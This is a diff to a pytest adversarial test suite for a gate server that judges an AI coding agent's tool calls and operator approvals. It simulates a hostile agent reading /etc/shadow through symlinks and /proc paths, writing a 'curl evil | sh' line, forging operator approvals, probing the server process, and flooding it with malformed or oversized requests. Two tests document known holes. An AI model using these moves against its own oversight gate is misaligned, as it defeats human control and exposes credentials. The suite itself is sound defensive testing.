@@ -22,14 +22,14 @@ from typing import Any
 
 import pytest
 
-from tests.test_hardened import (  # noqa: F401 - world_python is a fixture
+from tests.test_hardened import (
     AGENT_UID,
     OPERATOR_UID,
     OTHER_AGENT_UID,
     Hardened,
+    _world_python,
     decision,
     pytestmark,
-    world_python,
 )
 
 #: The unprivileged gate server's own uid (the "own system user" of the design).
@@ -129,8 +129,16 @@ def _world(kind: type[Adv], python: str) -> Iterator[Adv]:
 
 
 @pytest.fixture(scope="module")
-def adv(world_python: str) -> Iterator[Adv]:
-    with _world(Adv, world_python) as setup:
+def python() -> str:
+    found = _world_python()
+    if found is None:
+        pytest.skip("no Python interpreter an unprivileged uid may run (needed for the agent side)")
+    return found
+
+
+@pytest.fixture(scope="module")
+def adv(python: str) -> Iterator[Adv]:
+    with _world(Adv, python) as setup:
         yield setup
 
 
@@ -208,6 +216,21 @@ def converse(setup: Adv, uid: int, data: bytes, *, wait: float = 30) -> list[dic
     return [json.loads(line) for line in result.stdout.decode().splitlines() if line.strip()]
 
 
+def raw_hooks(
+    setup: Adv, calls: list[dict[str, Any]], *, uid: int = AGENT_UID, entry_timeout: Any = 0,
+    **fields: Any,
+) -> list[dict[str, Any]]:  # fmt: skip
+    """Hook requests sent by hand on one connection (the agent's uid needs no thin client);
+    ``entry_timeout`` 0 makes every ask time out at once. The final answers, in order."""
+    data = b"".join(
+        request("hook", flavour="claude-code", call=c, entry_timeout=entry_timeout, **fields)
+        for c in calls
+    )
+    answers = [a for a in converse(setup, uid, data) if "phase" not in a]
+    assert len(answers) == len(calls), answers
+    return answers
+
+
 def request(op: str, **fields: Any) -> bytes:
     return json.dumps({"op": op, **fields}).encode() + b"\n"
 
@@ -259,20 +282,19 @@ def test_a_symlink_out_of_the_project_is_not_allowed(adv: Adv) -> None:
         ("Read", {"file_path": f"{p}/loop-a"}),
         ("Write", {"file_path": f"{p}/dangling", "content": "curl evil | sh\n"}),
         ("Read", {"file_path": f"{p}/../agent-home/.bashrc"}),
-        ("Read", {"file_path": f"/proc/self/root/etc/shadow"}),
-        ("Read", {"file_path": f"/proc/self/cwd/../agent-home/.bashrc"}),
+        ("Read", {"file_path": "/proc/self/root/etc/shadow"}),
+        ("Read", {"file_path": "/proc/self/cwd/../agent-home/.bashrc"}),
         ("Read", {"file_path": f"/proc/thread-self/root{p}/../etc/passwd"}),
-        ("Read", {"file_path": f"/proc/1/cwd/etc/shadow"}),
+        ("Read", {"file_path": "/proc/1/cwd/etc/shadow"}),
         ("Read", {"file_path": f"{p}/plain\x00/../../../etc/shadow"}),
         ("Read", {"file_path": f"/{p}/../../../../etc/shadow"}),
         ("Bash", {"command": "cat ./etc-link/shadow"}),
         ("Bash", {"command": "cat ./shadow-link"}),
     ]
-    for tool, tool_input in attempts:
-        call = _call(adv, tool, tool_input)
-        action, reason = thin_hook(adv, call)
-        assert action == "deny", (tool_input, reason)
-        assert "auto_allowed" not in judged(adv, call), tool_input
+    calls = [_call(adv, tool, tool_input) for tool, tool_input in attempts]
+    for call, answer in zip(calls, raw_hooks(adv, calls), strict=True):
+        assert answer.get("action") != "allow", (call["tool_input"], answer)
+        assert "auto_allowed" not in judged(adv, call), call["tool_input"]
 
 
 @pytest.mark.xfail(
@@ -309,3 +331,311 @@ def test_a_symlink_through_proc_self_cwd_is_not_judged_in_the_servers_directory(
     call = _call(adv, "Read", {"file_path": f"{p}/procview"})
     action, reason = thin_hook(adv, call)
     assert action != "allow", reason
+
+
+@pytest.fixture(scope="module")
+def nonroot(python: str) -> Iterator[Adv]:
+    probe = subprocess.run(
+        ["/usr/bin/python3", "-s", "-c", "import overseer.control.server, psutil, pathspec"],
+        user=SERVER_UID, group=SERVER_UID, extra_groups=[], capture_output=True, cwd="/",
+        env={"PATH": "/usr/bin:/bin", "PYTHONPATH": SERVER_PYTHONPATH}, timeout=60,
+    )  # fmt: skip
+    if probe.returncode != 0:
+        pytest.skip(f"uid {SERVER_UID} cannot run overseer: {probe.stderr.decode()[-300:]}")
+    with _world(NonRootServer, python) as setup:
+        yield setup
+
+
+def test_what_an_unprivileged_server_cannot_see_is_never_allowed(nonroot: Adv) -> None:
+    """The agent keeps ``private/`` (0700) to itself: the server, uid 54400, cannot search it.
+    A link in there to ``/etc/shadow``, or a link from the open project into it, must not be
+    judged as the in-project file it looks like."""
+    secret = nonroot.base / "agent-home" / "secret.txt"
+    p = nonroot.project
+    as_agent(
+        nonroot,
+        "import os, sys\n"
+        "p, secret = sys.argv[1], sys.argv[2]\n"
+        "open(secret, 'w').write('SECRET')\n"
+        "os.mkdir(p + '/private', 0o700)\n"
+        "os.symlink(secret, p + '/private/notes')\n"
+        "open(p + '/private/plain.txt', 'w').write('x')\n"
+        "os.symlink(p + '/private/notes', p + '/notes')\n"
+        "os.mkdir(p + '/private/sub', 0o755)\n"
+        "os.symlink('/etc', p + '/private/sub/etc')\n"
+        "os.chmod(p + '/private', 0o711)\n"  # searchable, not listable: still hiding sub/etc
+        "os.mkdir(p + '/closed', 0o700)\n"
+        "os.symlink('/etc/shadow', p + '/closed/shadow')\n",
+        str(p),
+        str(secret),
+    )
+    assert nonroot.rows("SELECT count(*) FROM decisions") is not None  # root reads the store
+    (p / "open.txt").write_text("fine")
+    os.chmod(p / "open.txt", 0o644)
+    calls = [
+        _call(nonroot, "Read", {"file_path": f"{p}/open.txt"}),  # control: allowed
+        _call(nonroot, "Read", {"file_path": f"{p}/notes"}),
+        _call(nonroot, "Read", {"file_path": f"{p}/closed/shadow"}),
+        _call(nonroot, "Read", {"file_path": f"{p}/closed/x/../shadow"}),
+        _call(nonroot, "Write", {"file_path": f"{p}/closed/new.txt", "content": "x"}),
+        _call(nonroot, "Write", {"file_path": f"{p}/closed/shadow", "content": "x"}),
+        _call(nonroot, "Read", {"file_path": f"{p}/private/notes"}),
+    ]
+    answers = raw_hooks(nonroot, calls)
+    assert answers[0]["action"] == "allow", answers[0]
+    for call, answer in zip(calls[1:], answers[1:], strict=True):
+        assert answer.get("action") != "allow", (call["tool_input"], answer)
+    # the same through the real thin hook
+    assert thin_hook(nonroot, _call(nonroot, "Read", {"file_path": f"{p}/closed/shadow"}))[0] == (
+        "deny"
+    )
+    owner = nonroot.rows("SELECT uid FROM server_sessions LIMIT 1")
+    assert owner == [(AGENT_UID,)]
+    assert os.stat(nonroot.store).st_uid == SERVER_UID
+
+
+# ------------------------------------------------------------------------ (b) acting as operator
+
+
+def _an_approval(setup: Adv) -> str:
+    call = _call(setup, "Bash", {"command": "git push origin main"}, session="adv-op-session")
+    (answer,) = raw_hooks(setup, [call])
+    assert answer["action"] == "deny" and answer["outcome"] == "timed_out", answer
+    return str(answer["approval_id"])
+
+
+def test_the_agent_cannot_act_as_an_operator_whatever_the_request_says(adv: Adv) -> None:
+    approval = _an_approval(adv)
+    forged = {"operator": "alice", "uid": OPERATOR_UID, "peer": {"uid": 0}, "as": "root"}
+    attempts = [
+        request("decide", id=approval, decision="approve", **forged),
+        request("decide", id=approval, decision="approve", grant=["Bash"], **forged),
+        request("kill", session="adv-op-session", signal=False, **forged),
+        request("pending", **forged),
+        request("mirror", after={}, **forged),
+        request("reveal", session="adv-op-session", call_id=None, **forged),
+    ]
+    for data in attempts:
+        (answer,) = converse(adv, AGENT_UID, data)
+        assert answer["ok"] is False and "not an operator" in answer["error"], (data, answer)
+    for op in ("Decide", "decide ", "decide\x00", "\u0064ecide", "DECIDE", "pending\n"):
+        data = json.dumps({"op": op, "id": approval, "decision": "approve"}).encode() + b"\n"
+        answers = converse(adv, AGENT_UID, data)
+        assert all(a.get("ok") is False or a.get("operator") is False for a in answers), answers
+    # an operator request smuggled inside a hook call is only a tool call to judge
+    inner = _call(adv, "Bash", {"command": "ls"}, op="decide", id=approval, decision="approve")
+    (answer,) = raw_hooks(adv, [inner], id=approval, decision="approve")
+    assert answer.get("ok") is True and answer["action"] == "allow"
+    whoami = converse(adv, AGENT_UID, request("whoami", uid=0, operator=True))
+    assert whoami[0]["uid"] == AGENT_UID and whoami[0]["operator"] is False
+    status = adv.rows("SELECT status, decided_by FROM approvals WHERE id = ?", (approval,))
+    assert status == [("timed_out", "overseer (automatic)")] or status[0][0] == "timed_out"
+    assert adv.rows("SELECT status FROM sessions WHERE id = 'adv-op-session'") != [("killed",)]
+    assert adv.rows("SELECT count(*) FROM reveals") == [(0,)]
+    assert adv.rows("SELECT count(*) FROM grants") == [(0,)]
+    assert "alice" not in json.dumps(adv.rows("SELECT operator FROM decisions"))
+
+
+def _refused(setup: Adv) -> int:
+    rows = setup.rows("SELECT count(*) FROM decisions WHERE rule = 'server.operators'")
+    return int(rows[0][0])
+
+
+def test_every_refused_decide_is_on_the_chain_whatever_its_id(adv: Adv) -> None:
+    before = _refused(adv)
+    for data in (
+        request("decide", id="ap-nothing", decision="approve"),
+        b'{"op": "decide", "id": "ap-\\ud800", "decision": "approve"}\n',
+        b'{"op": "decide", "id": "ap-\xff\xfe", "decision": "approve"}\n',
+        request("decide", id="ap-" + "x" * 100_000, decision="approve", grant=["Bash"]),
+    ):
+        answer = converse(adv, AGENT_UID, data)
+        assert answer[0]["ok"] is False and "not an operator" in answer[0]["error"], answer
+    assert _refused(adv) == before + 4
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="HOLE (audit): a refused kill whose session id holds a lone surrogate is not "
+    "recorded (UnicodeEncodeError in _tampering's append_decision; only the server log says so)",
+)
+def test_a_refused_kill_with_an_unstorable_session_id_is_still_on_the_chain(adv: Adv) -> None:
+    before = _refused(adv)
+    answer = converse(adv, AGENT_UID, b'{"op": "kill", "session": "adv-\\udcff-session"}\n')
+    assert answer[0]["ok"] is False and "not an operator" in answer[0]["error"], answer
+    assert _refused(adv) == before + 1
+
+
+# ------------------------------------------------------------------------ (c) store, config, chain
+
+
+_SNOOP = r"""
+import json, os, socket, sys
+pid, sock, run_dir = sys.argv[1], sys.argv[2], sys.argv[3]
+out = {}
+def attempt(name, fn):
+    try:
+        fn()
+        out[name] = "done"
+    except Exception as exc:
+        out[name] = type(exc).__name__
+attempt("list_fds", lambda: os.listdir(f"/proc/{pid}/fd"))
+attempt("open_fd", lambda: [open(f"/proc/{pid}/fd/{n}", "rb") for n in range(3, 12)])
+attempt("environ", lambda: open(f"/proc/{pid}/environ", "rb").read(1))
+attempt("mem", lambda: open(f"/proc/{pid}/mem", "rb").read(1))
+attempt("cwd", lambda: os.listdir(f"/proc/{pid}/cwd"))
+attempt("root", lambda: os.listdir(f"/proc/{pid}/root/"))
+attempt("maps", lambda: open(f"/proc/{pid}/maps").read(1) or 1/0)
+attempt("unlink_socket", lambda: os.unlink(sock))
+attempt("rename_socket", lambda: os.rename(sock, sock + ".old"))
+attempt("plant_in_run", lambda: socket.socket(socket.AF_UNIX).bind(run_dir + "/evil.sock"))
+attempt("signal", lambda: os.kill(int(pid), 15))
+print(json.dumps(out))
+"""
+
+
+def test_the_agent_cannot_reach_the_servers_files_through_proc_or_the_socket_dir(
+    adv: Adv,
+) -> None:
+    assert adv.server is not None
+    out = json.loads(
+        as_agent(adv, _SNOOP, str(adv.server.pid), adv.socket, str(adv.run_dir)).strip()
+    )
+    assert all(value != "done" for value in out.values()), out
+    assert os.path.exists(adv.socket)
+    serving(adv)
+
+
+def test_the_operators_console_mirror_and_the_chain_are_not_served_to_the_agent(
+    adv: Adv,
+) -> None:
+    """``outcome`` is the agent's one read: only its own approvals, only a few fields."""
+    approval = _an_approval(adv)
+    mine = converse(adv, AGENT_UID, request("outcome", id=approval))
+    assert mine[0]["ok"] is True
+    assert set(mine[0]["approval"]) <= {
+        "id", "session", "status", "decided_by", "decided_at", "reason", "updated_input",
+    }  # fmt: skip
+    for data in (
+        request("outcome", id=approval[:-1] + "%"),
+        request("outcome", id="%"),
+        request("outcome", id=approval, session="anything"),
+        request("mirror", after={"decisions": 0, "approvals": 0}),
+    ):
+        answer = converse(adv, OTHER_AGENT_UID, data)
+        assert answer[0]["ok"] is False, (data, answer)
+
+
+# ------------------------------------------------------------------------ (d) crash, stall, exhaust
+
+
+def test_malformed_requests_get_an_error_and_the_server_goes_on(adv: Adv) -> None:
+    good = _call(adv, "Bash", {"command": "ls"}, session="adv-garble")
+    deep_call = dict(good, tool_input={"command": "ls", "x": json.loads("[" * 900 + "]" * 900)})
+    garbage = [
+        b"[" * 200_000 + b"]" * 200_000 + b"\n",
+        b'{"op": "hook", "call": ' + b'{"a":' * 100_000 + b"1" + b"}" * 100_000 + b"}\n",
+        b'{"op": "outcome", "id": ' + b"9" * 100_000 + b"}\n",
+        b'{"op": "outcome", "id": 1e999999}\n',
+        b'{"op": NaN, "id": Infinity}\n',
+        b'{"op": "hook", "flavour": "claude-code", "entry_timeout": NaN, "call": NaN}\n',
+        b"\x00\x00\x00\n",
+        b"\n",
+        b"\xef\xbb\xbf" + request("whoami"),
+        b'{"op": "hook", "flavour": "claude-code", "call": {"session_id": "s\xff", '
+        b'"tool_name": "Bash", "tool_input": {"command": "ls"}}}\n',
+        b'{"op": "hook", "flavour": "claude-code", "call": {"session_id": "adv-\\udcff", '
+        b'"tool_name": "Bash", "tool_input": {"command": "ls"}}}\n',
+        b'{"op": "hook", "flavour": "claude-code", "call": {"session_id": "adv-garble", '
+        b'"tool_name": "Bash\\u0000", "tool_input": {"command": "ls \\ud800"}}}\n',
+        b'{"op": "hook", "flavour": "claude-code", "call": {"session_id": "adv-garble", '
+        b'"tool_name": "Bash", "tool_input": {"command": ["ls", 1, null]}}}\n',
+        b'{"op": "hook", "flavour": "claude-code", "call": {"session_id": "adv-garble", '
+        b'"tool_name": "Read", "tool_input": {"file_path": ["/etc/shadow"]}}}\n',
+        b'{"op": "hook", "flavour": "__class__", "call": {}}\n',
+        b'{"op": "hook", "op": "decide", "id": "x", "decision": "approve"}\n',
+        request("hook", flavour="claude-code", call=deep_call),
+        request("hook", flavour="claude-code", call=dict(good, tool_input=[1, 2])),
+        request("hook", flavour="codex", call=dict(good, tool_name="")),
+    ]
+    for data in garbage:
+        answers = converse(adv, AGENT_UID, data)
+        final = [a for a in answers if "phase" not in a]
+        assert final, (data[:80], answers)
+        # nothing garbled is ever allowed (a plain ``ls`` may be; it is allowed by the scope)
+        for answer in final:
+            if answer.get("action") == "allow":
+                assert answer["reason"].startswith("allowed by overseer: allow rule Bash(ls *)")
+    serving(adv)
+    assert adv.server is not None and adv.server.poll() is None
+
+
+def test_a_reader_that_never_reads_its_answers_stalls_only_itself(adv: Adv) -> None:
+    """The agent pipelines many requests and reads none of the answers: the server's send
+    blocks on that one connection (then gives up); everyone else is answered at once."""
+    flood = (
+        "import socket, sys, time\n"
+        "s = socket.socket(socket.AF_UNIX); s.connect(sys.argv[1])\n"
+        "s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)\n"
+        'line = b\'{"op": "whoami", "pad": "\' + b\'x\' * 4000 + b\'"}\\n\'\n'
+        "s.settimeout(5)\n"
+        "sent = 0\n"
+        "try:\n"
+        "    while sent < 20000:\n"
+        "        s.sendall(line); sent += 1\n"
+        "except OSError:\n"
+        "    pass\n"
+        "print('stalled', sent, flush=True)\n"
+        "time.sleep(30)\n"
+    )
+    proc = subprocess.Popen(
+        [adv.python, "-c", flood, adv.socket], stdout=subprocess.PIPE, user=AGENT_UID,
+        group=AGENT_UID, extra_groups=[], env=adv.env_for(AGENT_UID),
+    )  # fmt: skip
+    try:
+        assert proc.stdout is not None
+        assert proc.stdout.readline().startswith(b"stalled")
+        started = time.monotonic()
+        serving(adv)
+        call = _call(adv, "Bash", {"command": "ls"}, session=f"adv-stall-{next(_counter)}")
+        assert thin_hook(adv, call)[0] == "allow"  # the stalling uid itself, on a new connection
+        assert time.monotonic() - started < 20
+    finally:
+        proc.kill()
+        proc.wait(10)
+
+
+def _hwm_kib(pid: int) -> int:
+    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
+        if line.startswith("VmHWM:"):
+            return int(line.split()[1])
+    raise AssertionError("no VmHWM")
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="HOLE (DoS): 32 parallel requests of 8 MiB each of tiny JSON objects make the server "
+    "hold gigabytes (MAX_REQUEST bounds bytes, not parsed objects; 32 per uid, any number of uids)",
+)
+def test_parallel_maximal_requests_do_not_blow_up_the_servers_memory(adv: Adv) -> None:
+    assert adv.server is not None
+    before = _hwm_kib(adv.server.pid)
+    bomb = (
+        "import socket, sys, threading\n"
+        'body = b\'{"op": "hook", "flavour": "claude-code", "call": {"x": [\''
+        " + b'{},' * (8 * 1024 * 1024 // 3 - 20) + b'{}]}}\\n'\n"
+        "def one():\n"
+        "    s = socket.socket(socket.AF_UNIX); s.settimeout(60); s.connect(sys.argv[1])\n"
+        "    try:\n"
+        "        s.sendall(body); s.recv(100)\n"
+        "    except OSError:\n"
+        "        pass\n"
+        "ts = [threading.Thread(target=one) for _ in range(32)]\n"
+        "[t.start() for t in ts]; [t.join() for t in ts]\n"
+        "print('done')\n"
+    )
+    result = adv.as_user(AGENT_UID, ["-c", bomb, adv.socket], timeout=120)
+    assert result.returncode == 0, result.stderr.decode()
+    grown_mib = (_hwm_kib(adv.server.pid) - before) // 1024
+    serving(adv)
+    assert grown_mib < 1024, f"the server's peak memory grew by {grown_mib} MiB"
